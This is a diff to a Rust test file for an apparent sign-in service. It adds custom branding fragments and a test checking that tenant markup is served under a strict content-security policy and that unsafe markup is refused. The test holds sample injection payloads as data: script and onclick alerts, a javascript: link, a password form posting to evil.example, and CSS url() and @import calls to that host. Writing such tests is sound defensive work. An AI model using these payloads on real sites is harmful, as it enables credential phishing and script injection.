@@ -6,7 +6,7 @@ use serde_json::json;
 use crate::accessibility::accessible;
 use crate::browser::{chromium_with, picture};
 use crate::home_realm::{application, outside};
-use crate::support::{Browser, Node, NodeSetup, replace_file};
+use crate::support::{Browser, Lab, Node, NodeSetup, replace_file};
 
 const SERVICE: &str = r##"
 [branding]
@@ -36,13 +36,26 @@ illustration = "illustration.webp"
 accent_light = "#1f4e8c"
 accent_dark = "#8db7d9"
 texts."".sign_in = "Ask the harbour master for an account."
+style_sheet = "harbour.css"
+fragments."".header = "notice.html"
+fragments.fr.header = "notice.fr.html"
+fragments."".footer = "footer.html"
 "##;
+
+/// What a company puts on its pages: a notice above, and addresses below.
+const NOTICE: &str = "<section class='notice' lang='en'><h2>Storm &amp; flood</h2><p>Read <a href='https://www.example.com/storm'>what to do</a>.</p></section>";
+const FOOTER: &str = "<p>Harbour &amp; Sons, <a href=\"tel:+49-40-4711\">4711</a></p>";
+const RULES: &str = ".notice{border-inline-start:.25rem solid var(--accent);padding-inline-start:.75rem}\n.notice h2{margin-top:0;letter-spacing:1px}";
 
 fn start() -> Node {
     let setup = NodeSetup::new()
         .append(SERVICE)
         .write("trusts/logo.webp", include_bytes!("branding/logo.webp"))
-        .write("trusts/illustration.webp", include_bytes!("branding/illustration.webp"));
+        .write("trusts/illustration.webp", include_bytes!("branding/illustration.webp"))
+        .write("trusts/harbour.css", RULES)
+        .write("trusts/notice.html", NOTICE)
+        .write("trusts/notice.fr.html", "<p>Tempête</p>")
+        .write("trusts/footer.html", FOOTER);
     application(&setup.directory, "plain", "");
     application(&setup.directory, "harbour", HARBOUR);
     setup.start()
@@ -135,4 +148,56 @@ fn a_theme_is_served_as_soon_as_it_is_read() {
     let (served, said) = node.reload();
     assert!(!served && said.contains("it is an SVG drawing") && said.contains("rp-harbour.toml:"), "{said}");
     assert!(browser.ask("harbour", "").body.contains("src=\"data:image/png;base64,"), "the logo before");
+}
+
+#[test]
+fn markup_and_rules_of_a_company_stand_on_its_pages_and_nothing_that_runs_or_loads() {
+    let node = start();
+    let harbour = || outside(&node).ask("harbour", "");
+    let page = harbour();
+    let header = "<div id=\"customHeader\"><section class=\"notice\" lang=\"en\"><h2>Storm &amp; flood</h2><p>Read \
+        <a href=\"https://www.example.com/storm\" rel=\"noreferrer\">what to do</a>.</p></section></div>";
+    assert!(page.body.contains(header), "{}", page.body);
+    assert!(
+        page.body.contains("<div id=\"customFooter\"><p>Harbour &amp; Sons, <a href=\"tel:+49-40-4711\""),
+        "{}",
+        page.body
+    );
+    assert!(page.body.contains(RULES), "{}", page.body);
+    assert!(page.body.len() < 30_000, "{} octets", page.body.len());
+    let policy = page.header("content-security-policy").expect("a policy");
+    assert!(policy.starts_with("default-src 'none'; style-src 'nonce-") && !policy.contains("unsafe"), "{policy}");
+    let french = outside(&node).reading("fr").ask("harbour", "").body;
+    assert!(french.contains("<div id=\"customHeader\"><p>Tempête</p></div>") && !french.contains("Storm"), "{french}");
+    // Of this relying party alone.
+    assert!(!outside(&node).ask("plain", "").body.contains("<div id=\"customHeader"));
+    // The page that carries the token has none of it, nor the one that others may frame.
+    let form = outside(&node);
+    form.sign_in("harbour", &format!("alice@{}", Lab::get().domain), "Alice-Pw-1");
+    let token = form.ask("harbour", "");
+    assert!(token.body.contains("wresult") && !token.body.contains("Storm"), "{}", token.body);
+
+    let file = |name: &str| node.directory.join("trusts").join(name);
+    for (name, content, said_of_it) in [
+        ("notice.html", "<p>x</p><script>alert(1)</script>", "`<script>` cannot stand in a page"),
+        (
+            "notice.html",
+            "<form action='https://evil.example/'><input name='Password'/></form>",
+            "`<form>` cannot stand in a page",
+        ),
+        ("notice.html", "<p onclick='alert(1)'>x</p>", "`onclick` of `<p>` cannot stand in a page"),
+        ("notice.html", "<a href='javascript:alert(1)'>x</a>", "is no value of `href`"),
+        ("notice.html", "<p id='loginForm'>x</p>", "`id` of `<p>` cannot stand in a page"),
+        ("footer.html", "<p>x", "an element is not closed"),
+        ("harbour.css", "body{background:url(https://evil.example/x)}", "`url(` cannot stand in a style sheet"),
+        ("harbour.css", "</style><script>alert(1)</script>", "`<` cannot stand in a style sheet"),
+        ("harbour.css", "@import 'https://evil.example/x.css';", "`@import` cannot stand in a style sheet"),
+    ] {
+        let before = std::fs::read(file(name)).expect("a file");
+        replace_file(&file(name), content.as_bytes());
+        let (served, said) = node.reload();
+        assert!(!served && said.contains(said_of_it) && said.contains(name), "{content}: {said}");
+        assert!(harbour().body.contains(header), "the pages stay: {content}");
+        replace_file(&file(name), &before);
+    }
 }
